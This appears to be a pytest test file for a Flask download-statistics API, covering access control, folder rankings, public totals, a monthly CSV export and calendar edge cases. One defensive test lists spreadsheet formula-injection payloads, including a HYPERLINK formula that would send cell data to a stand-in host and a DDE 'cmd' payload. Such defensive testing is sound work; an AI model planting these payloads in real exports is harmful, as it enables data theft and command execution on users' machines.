"""Reading the statistics: per record, ranked for administrators, public totals, the export."""

from __future__ import annotations

import csv
import io

import pytest
from flask import Flask

from app import create_app
from app.extensions import db
from tests.stats.conftest import Clock
from tests.stats.test_counting import BROWSER, flush, public_download
from tests.support.api import Account, Api


def _downloads(api: Api, record_id: str, clock: Clock, visitors: int) -> None:
    for n in range(visitors):
        headers = {"User-Agent": f"{BROWSER['User-Agent']} visitor/{n}"}
        assert public_download(api, record_id, headers).status_code == 200
    clock.advance(1)


def test_a_records_stats_for_its_owner_and_administrators(
    app: Flask, api: Api, alice: Account, bob: Account, admin: Account, clock: Clock
) -> None:
    record = api.create(alice)
    _downloads(api, record["id"], clock, 2)
    clock.advance(24 * 3600)
    _downloads(api, record["id"], clock, 1)
    flush(app)
    path = f"/api/files/{record['id']}/stats"
    assert api.get(path).status_code == 401
    assert api.get(path, bob).status_code == 404
    days = api.get(path, admin, query_string={"from": "2026-11-25", "until": "2026-11-28"})
    assert days.status_code == 200
    assert [(p["period"], p["total"]) for p in days.get_json()["periods"]] == [
        ("2026-11-25", 0),
        ("2026-11-26", 2),
        ("2026-11-27", 1),
        ("2026-11-28", 0),
    ]
    months = api.get(path, alice, query_string={"granularity": "month", "from": "2026-10-01"})
    body = months.get_json()
    assert (body["from"], body["until"], body["total"], body["unique"]) == (
        "2026-10-01",
        "2026-11-27",
        3,
        3,
    )
    assert [(p["period"], p["total"]) for p in body["periods"]] == [("2026-10", 0), ("2026-11", 3)]


@pytest.mark.parametrize(
    "params",
    [
        {"from": "2026-11-30", "until": "2026-11-01"},
        {"from": "yesterday"},
        {"granularity": "week"},
        {"from": "1990-01-01", "until": "2026-01-01"},
    ],
)
def test_bad_periods_are_422(api: Api, alice: Account, params: dict[str, str]) -> None:
    record = api.create(alice)
    response = api.get(f"/api/files/{record['id']}/stats", alice, query_string=params)
    assert response.status_code == 422
    assert response.get_json()["errors"]


def test_administrators_rank_the_records_of_a_folder(
    app: Flask, api: Api, alice: Account, admin: Account, clock: Clock
) -> None:
    low = api.create(alice, "a.pdf", path="reports/2026", titel="Low")
    high = api.create(alice, "b.pdf", path="reports/2026", titel="High")
    elsewhere = api.create(alice, "c.pdf", path="podcasts", titel="Elsewhere")
    _downloads(api, low["id"], clock, 1)
    _downloads(api, high["id"], clock, 3)
    _downloads(api, elsewhere["id"], clock, 5)
    flush(app)
    assert api.get("/api/stats", alice).status_code == 403
    response = api.get("/api/stats", admin, query_string={"path": "reports", "sort": "-total"})
    assert response.status_code == 200
    body = response.get_json()
    assert [(r["titel"], r["total"], r["unique"]) for r in body["data"]] == [
        ("High", 3, 3),
        ("Low", 1, 1),
    ]
    assert (body["total"], body["current_page"], body["last_page"]) == (2, 1, 1)
    ascending = api.get("/api/stats", admin, query_string={"sort": "total"}).get_json()
    assert [r["titel"] for r in ascending["data"]] == ["Low", "High", "Elsewhere"]
    assert api.get("/api/stats", admin, query_string={"sort": "size"}).status_code == 422


def test_public_totals_of_released_records(
    app: Flask, api: Api, alice: Account, clock: Clock, stack_config: dict
) -> None:
    released = api.create(alice)
    hidden = api.create(alice, freigabe="false")
    _downloads(api, released["id"], clock, 2)
    flush(app)
    response = api.get(f"/api/public/files/{released['id']}/stats")
    assert response.status_code == 200
    assert response.get_json()["total"] == 2
    assert response.headers["Cache-Control"] == "public, max-age=0, must-revalidate"
    assert api.get(f"/api/public/files/{hidden['id']}/stats").status_code == 404
    switched_off = create_app({**stack_config, "STATS_PUBLIC": "off"})
    try:
        answer = switched_off.test_client().get(f"/api/public/files/{released['id']}/stats")
        assert answer.status_code == 404
    finally:
        with switched_off.app_context():
            db.engine.dispose()


def test_the_monthly_item_report(
    app: Flask, api: Api, alice: Account, clock: Clock, runner
) -> None:
    record = api.create(alice, titel="Bericht, 2026")
    other = api.create(alice, titel="Nie geladen")
    _downloads(api, record["id"], clock, 2)
    clock.advance(60)
    _downloads(api, record["id"], clock, 1)  # visitor 0 again: a request, not a visitor
    flush(app)
    result = runner.invoke(args=["stats", "export", "--month", "2026-11"])
    assert result.exit_code == 0, result.output
    rows = list(csv.reader(io.StringIO(result.output)))
    assert rows == [
        ["Item", "Title", "Metric_Type", "Month", "Count"],
        [record["id"], "Bericht, 2026", "Total_Item_Investigations", "2026-11", "3"],
        [record["id"], "Bericht, 2026", "Total_Item_Requests", "2026-11", "3"],
        [record["id"], "Bericht, 2026", "Unique_Item_Requests", "2026-11", "2"],
    ]
    assert other["id"] not in result.output
    empty = runner.invoke(args=["stats", "export", "--month", "2026-10"])
    assert empty.output.splitlines() == ["Item,Title,Metric_Type,Month,Count"]
    bad = runner.invoke(args=["stats", "export", "--month", "November"])
    assert bad.exit_code == 2 and "2026-11" in bad.output


FORMULA_TITLES = [
    '=HYPERLINK("http://evil.example/?"&A1,"Bericht")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
]


def test_the_item_report_writes_no_formula_a_spreadsheet_would_run(
    app: Flask, api: Api, alice: Account, clock: Clock, runner
) -> None:
    """Issue 36 finding 5: a title that starts like a formula gets a `'` before it (OWASP's
    CSV injection advice); other titles stay as they are."""
    records = [api.create(alice, titel=title) for title in [*FORMULA_TITLES, "Bericht = gut"]]
    for record in records:
        _downloads(api, record["id"], clock, 1)
    flush(app)
    result = runner.invoke(args=["stats", "export", "--month", "2026-11"])
    assert result.exit_code == 0, result.output
    titles = {row[0]: row[1] for row in csv.reader(io.StringIO(result.output, newline=""))}
    for record in records:
        stored = api.get(f"/api/files/{record['id']}", alice).get_json()["titel"]
        written = titles[record["id"]]
        if stored.startswith(("=", "+", "-", "@", "\t", "\r")):
            assert written == f"'{stored}"
        else:
            assert written == stored
    assert titles[records[-1]["id"]] == "Bericht = gut"
    assert titles[records[0]["id"]] == "'" + FORMULA_TITLES[0]
    cells = [cell for row in csv.reader(io.StringIO(result.output, newline="")) for cell in row]
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]


def test_periods_at_the_ends_of_the_calendar(api: Api, alice: Account) -> None:
    record = api.create(alice)
    path = f"/api/files/{record['id']}/stats"
    for params in ({"until": "0001-01-05"}, {"until": "0001-03-01", "granularity": "month"}):
        response = api.get(path, alice, query_string=params)
        assert response.status_code == 200
        assert response.get_json()["from"] == "0001-01-01"
    late = api.get(path, alice, query_string={"from": "9999-12-30", "until": "9999-12-31"})
    assert [p["period"] for p in late.get_json()["periods"]] == ["9999-12-30", "9999-12-31"]
